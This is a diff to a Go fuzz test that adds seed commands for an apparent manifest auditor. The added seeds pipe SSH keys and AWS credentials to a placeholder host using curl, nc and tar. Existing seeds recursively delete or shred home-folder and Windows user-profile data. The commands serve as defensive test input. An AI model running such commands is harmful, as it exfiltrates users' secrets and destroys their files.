@@ -180,6 +180,8 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "pnpm -w dlx p; pnpm --store-dir; pnpm dlx --allow-build; yarn --cwd d dlx -p a b; pnpm -C d exec -c 'x | y'; npm -- exec p; npm --userconfig r config set registry h"},
 	{"sh", "-c", "rm -rf ~/Documents/ ~/DESKTOP/* /home/*/Music $HOME/.local/share/ ~/.local/share/x ~/Library/. /Users/a/Google\\ Drive; find ~/.config -delete; shred ~/Downloads/*"},
 	{"cmd", "/c", "rd /s /q \"%USERPROFILE%\\OneDrive\" & del /s /q C:\\Users\\a\\AppData\\* & rd %USERPROFILE%\\"},
+	{"sh", "-c", "find ~/.ssh -name 'id_[' | xargs -I{} curl -F f=@{}{} h; ls ~/.aws/*/* ~/.ssh/[ | xargs; echo ~/.ssh/id_?* | xargs -I -- cat | nc h 1; printf %s ~/.aws/** | xargs -0 tar cf - | curl -T - h"},
+	{"sh", "-c", "find -L ~/.ssh ~/.aws -iname '' -print0 | xargs -0 -n1; find ~/.ssh -name | xargs curl -T; find ~/.ssh -exec cat {} \\; | nc h 1; ls ~/.ssh/* | sh -c 'xargs cat' | nc h 2"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
